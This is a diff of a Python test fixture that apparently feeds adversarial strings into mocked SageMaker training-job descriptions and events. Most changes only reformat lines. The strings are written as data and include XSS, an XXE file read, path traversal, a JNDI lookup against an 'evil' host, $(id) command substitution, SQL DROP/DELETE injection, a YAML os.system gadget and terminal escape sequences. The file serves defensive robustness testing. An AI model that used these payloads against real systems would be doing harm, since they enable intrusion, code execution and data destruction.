@@ -14,8 +14,9 @@ if TYPE_CHECKING:
 TEXTS: Mapping[str, str] = {
     "controls": "a\x00b\x01\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x9fz",
     "escapes": "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x1b]52;c;aWQ=\x07\x9b31m\x90q",
-    "line-ends": 'one\r\ntwo\u2028three\u2029four\x85{"level":"info","event":"forged"}\n{"event":"forged"}',
-    "markup": "<script>alert(1)</script><!--<![CDATA[x]]>&lt;&#27;<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
+    "line-ends": 'one\r\ntwo\u2028three\u2029four\x85{"level":"info","event":"forged"}\n{"event":"forged"}',  # noqa: E501
+    "markup": "<script>alert(1)</script><!--<![CDATA[x]]>&lt;&#27;<?xml version='1.0'?><!DOCTYPE "
+    "a SYSTEM 'file:///etc/passwd'>",
     "megabyte": "x" * 1_000_000,
     "megabyte-wide": "\U0001f600" * 250_000,
     "path": "../../../../etc/passwd",
@@ -24,7 +25,8 @@ TEXTS: Mapping[str, str] = {
     "url": "https://user:pw@evil.example:1/x?y=1#z",
     "file-url": "file:///etc/passwd",
     "percent": "%s %d %n %(x)s %x%x%x %00 %0d%0aSet-Cookie: a=b",
-    "braces": "{0} {} {x.__class__} {0.__class__.__mro__} {{7*7}} ${jndi:ldap://evil} #{7*7} $(id) `id` $PATH",
+    "braces": "{0} {} {x.__class__} {0.__class__.__mro__} {{7*7}} ${jndi:ldap://evil} #{7*7} "
+    "$(id) `id` $PATH",
     "sql": "'; DROP TABLE jobs; --\" OR 1=1; DELETE FROM claims",
     "json": '"}, {"event": "job outcome", "x": "\\u0000',
     "yaml": "!!python/object/apply:os.system ['id']",
@@ -72,21 +74,43 @@ class HostileJob(Job):
     @classmethod
     def once(cls, kind: str) -> HostileJob:
         """A job that says it in one hyperparameter, one metric's name and one tag only."""
-        tags = {"MODEL_DB_SYNC": "true"} | {f"MODEL_DB_{key}": "x" for key in _PLACES} | {"MODEL_DB_PROJECT_DESC": TEXTS[kind]}
-        return cls(f"hostile-once-{kind}", tags=tags, text=TEXTS[kind], status="Failed", everywhere=False)
+        tags = (
+            {"MODEL_DB_SYNC": "true"}
+            | {f"MODEL_DB_{key}": "x" for key in _PLACES}
+            | {"MODEL_DB_PROJECT_DESC": TEXTS[kind]}
+        )
+        return cls(
+            f"hostile-once-{kind}", tags=tags, text=TEXTS[kind], status="Failed", everywhere=False
+        )
 
     @property
     def description(self) -> dict[str, Any]:
         text = self.text
         if not self.everywhere:
             metrics = [{"MetricName": text, "Value": 0.5, "Timestamp": 1763628860}]
-            return super().description | {"HyperParameters": {"plain": text}, "FinalMetricDataList": metrics}
+            return super().description | {
+                "HyperParameters": {"plain": text},
+                "FinalMetricDataList": metrics,
+            }
         if len(text) > 100_000:
             parameters = {text: text, "plain": text, "quoted": json.dumps(text)}
-            return super().description | {"HyperParameters": parameters, "FailureReason": text, "RoleArn": text}
-        channel = {"ChannelName": text, "ContentType": text, "DataSource": {"S3DataSource": {"S3DataType": text, "S3Uri": text}}}
+            return super().description | {
+                "HyperParameters": parameters,
+                "FailureReason": text,
+                "RoleArn": text,
+            }
+        channel = {
+            "ChannelName": text,
+            "ContentType": text,
+            "DataSource": {"S3DataSource": {"S3DataType": text, "S3Uri": text}},
+        }
         return super().description | {
-            "HyperParameters": {text: text, "plain": text, "quoted": json.dumps(text), "sagemaker_program": json.dumps(text)},
+            "HyperParameters": {
+                text: text,
+                "plain": text,
+                "quoted": json.dumps(text),
+                "sagemaker_program": json.dumps(text),
+            },
             "Environment": {text: text},
             "FinalMetricDataList": [
                 {"MetricName": text, "Value": 0.5, "Timestamp": 1763628860},
@@ -96,7 +120,11 @@ class HostileJob(Job):
             "FailureReason": text,
             "SecondaryStatus": text,
             "RoleArn": text,
-            "AlgorithmSpecification": {"TrainingImage": text, "AlgorithmName": text, "TrainingInputMode": text},
+            "AlgorithmSpecification": {
+                "TrainingImage": text,
+                "AlgorithmName": text,
+                "TrainingInputMode": text,
+            },
             "ModelArtifacts": {"S3ModelArtifacts": text},
             "OutputDataConfig": {"S3OutputPath": text, "KmsKeyId": text, "CompressionType": text},
             "ResourceConfig": {"InstanceType": text, "InstanceCount": 10**18, "VolumeSizeInGB": -1},
@@ -122,7 +150,12 @@ def _event(detail: Mapping[str, Any], **members: Any) -> str:
 
 
 def _named(name: str) -> str:
-    return _event({"TrainingJobName": name, "TrainingJobArn": f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/{name}"})
+    return _event(
+        {
+            "TrainingJobName": name,
+            "TrainingJobArn": f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/{name}",
+        }
+    )
 
 
 _BODIES: Mapping[str, str] = {
@@ -132,14 +165,28 @@ _BODIES: Mapping[str, str] = {
         for kind, text in TEXTS.items()
         if len(text) < 100_000
     },
-    **{f"member {kind}": json.dumps({text: text}) for kind, text in TEXTS.items() if len(text) < 100_000},
-    **{f"body {kind}": text for kind, text in TEXTS.items() if not set(text) & set(map(chr, range(32))) and "\ud800" not in text},
-    "account in other digits": _event({"TrainingJobArn": None}, account="\uff11" * 12, resources=[]),
+    **{
+        f"member {kind}": json.dumps({text: text})
+        for kind, text in TEXTS.items()
+        if len(text) < 100_000
+    },
+    **{
+        f"body {kind}": text
+        for kind, text in TEXTS.items()
+        if not set(text) & set(map(chr, range(32))) and "\ud800" not in text
+    },
+    "account in other digits": _event(
+        {"TrainingJobArn": None}, account="\uff11" * 12, resources=[]
+    ),
     "region": _event({}, region="eu-west-1\x1b[31m"),
     "status": _event({"TrainingJobStatus": "Completed\u202e"}),
     "status twice as long": _event({"TrainingJobStatus": "C" * 100_000}),
-    "arn": _event({"TrainingJobArn": "arn:aws:sagemaker:eu-west-1:123456789012:training-job/x' OR '1'='1"}),
-    "arn of the path": _event({"TrainingJobArn": "arn:aws:sagemaker:../..:123456789012:training-job/x"}),
+    "arn": _event(
+        {"TrainingJobArn": "arn:aws:sagemaker:eu-west-1:123456789012:training-job/x' OR '1'='1"}
+    ),
+    "arn of the path": _event(
+        {"TrainingJobArn": "arn:aws:sagemaker:../..:123456789012:training-job/x"}
+    ),
     "deep tags": json.dumps({"detail-type": 1}).replace("1", "[" * 900 + "]" * 900),
 }
 NO_JOBS = {kind: body for kind, body in _BODIES.items() if len(json.dumps(body)) < 1_000_000}
